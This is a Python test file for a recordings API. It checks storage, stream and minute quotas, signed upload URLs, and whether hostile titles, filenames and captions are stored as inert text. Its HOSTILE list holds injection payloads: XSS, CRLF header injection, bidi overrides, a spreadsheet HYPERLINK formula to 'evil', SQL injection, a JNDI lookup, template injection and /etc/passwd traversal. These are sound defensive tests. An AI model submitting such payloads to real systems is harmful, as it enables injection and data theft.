"""Quotas, sizes and rates as a client meets them."""

from __future__ import annotations

from typing import TYPE_CHECKING

from chalicelib import config, container, live_container

if TYPE_CHECKING:
    import pytest
    from conftest import Api


def limit(monkeypatch: pytest.MonkeyPatch, **settings: str) -> None:
    """Let the API run under other settings."""
    for name, value in settings.items():
        monkeypatch.setenv(f"HEADWATER_{name.upper()}", value)
    config.settings.cache_clear()
    container.reset()
    live_container.reset()


def test_quotas_are_refused_with_their_code(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    """Storage and streams; what is deleted or stopped is free again, and other people have their own."""
    limit(monkeypatch, quota_bytes="5", quota_streams="1")
    body = {"title": "a", "filename": "a", "size_bytes": 3, "content_type": "a/b"}
    first = api.create()["recording"]["id"]
    full = api.call("POST", "/v1/recordings", body)
    assert (full.status_code, full.json_body["code"]) == (409, "quota_storage")
    assert "You have 2 of 5 bytes left" in full.json_body["detail"]
    api.create(user="berta")
    assert api.call("DELETE", f"/v1/recordings/{first}").status_code == 204
    api.create()
    lives = [api.call("POST", "/v1/recordings", {"title": "L", "live": True}) for _ in range(2)]
    one, two = (f"/v1/recordings/{live.json_body['recording']['id']}/stream" for live in lives)
    assert api.call("POST", f"{one}/start-live").status_code == 201
    again = api.call("POST", f"{one}/start-live")
    assert (again.status_code, again.json_body["code"]) == (409, "stream_active")
    busy = api.call("POST", f"{two}/start-live")
    assert (busy.status_code, busy.json_body["code"]) == (409, "quota_streams")
    assert api.call("POST", f"{two}/start-live", user="root", role="admin").status_code == 201


def test_minutes_are_counted_from_what_is_there(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    """Four seconds of one recording leave room in a minute; sixty do not."""
    limit(monkeypatch, quota_minutes="1")
    first = api.uploaded()
    api.create()
    container.recordings().update(first, duration_s=60.0)
    body = {"title": "a", "filename": "a", "size_bytes": 3, "content_type": "a/b"}
    full = api.call("POST", "/v1/recordings", body)
    assert (full.status_code, full.json_body["code"]) == (409, "quota_minutes")


def test_an_upload_is_bound_to_key_size_and_type(api: Api) -> None:
    """A part's address signs its length; the object's type is the declared one, whatever a client sends later."""
    made = api.create(content_type="video/mp4")
    recording_id = made["recording"]["id"]
    url = made["upload"]["parts"][0]["url"]
    assert f"/sources/{recording_id}/original?" in url
    assert "SignedHeaders=content-length%3Bhost" in url
    api.put_parts(recording_id, b"abc", b"more than was declared")
    assert api.call("POST", f"/v1/recordings/{recording_id}/upload/complete").status_code == 200
    head = container.source_objects().head(f"sources/{recording_id}/original")
    assert head is not None
    assert (head.size, head.content_type) == (3, "video/mp4")


HOSTILE = [
    '<script>alert(1)</script>"><img src=x onerror=alert(1)>',
    "line one\r\nSet-Cookie: a=b\nline three\x00\x1b[31m",
    "\u202egpj.exe \u2066right\u2069 to left",
    '=HYPERLINK("http://evil")\t\' OR 1=1 --',
    "${jndi:ldap://x} {{7*7}} %s %n ../../etc/passwd",
]


def test_hostile_names_are_stored_and_shown_inert(api: Api) -> None:
    """One line of text without control or reordering characters, in JSON; headers and keys hold nothing of it."""
    for text in HOSTILE:
        made = api.create(title=text, filename=f"..\\{text}.mp4", room_id=text)["recording"]
        shown = api.call("GET", f"/v1/recordings/{made['id']}")
        assert shown.headers["Content-Type"] == "application/json"
        assert shown.headers["X-Content-Type-Options"] == "nosniff"
        for name in ("title", "filename", "room_id"):
            kept = shown.json_body[name]
            assert kept.isprintable(), (name, kept)
            assert not set(kept) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\x00\r\n")
        assert "/" not in shown.json_body["filename"]
        assert "\\" not in shown.json_body["filename"]
        api.put_parts(made["id"], b"abc")
        assert api.call("POST", f"/v1/recordings/{made['id']}/upload/complete").status_code == 200
        source = api.call("GET", f"/v1/recordings/{made['id']}/download").json_body["source"]
        assert f"/sources/{made['id']}/original?" in source["url"]


def test_hostile_captions_become_text(api: Api) -> None:
    """Markup that is no caption's is shown as it was typed."""
    recording_id = api.create()["recording"]["id"]
    one = f"/v1/recordings/{recording_id}/captions/en"
    body = "WEBVTT\n\n00:01.000 --> 00:02.000\n<script>alert(1)</script> <b>bold</b> \u202eleft\n"
    assert api.call("PUT", one, body.encode(), label="<b>\r\nx\x00").status_code == 201
    text = api.call("GET", one).body.decode()
    assert "<script" not in text
    assert "<b>bold</b>" in text
    (track,) = api.call("GET", f"/v1/recordings/{recording_id}/captions").json_body["captions"]
    assert track["label"] == "<b> x"
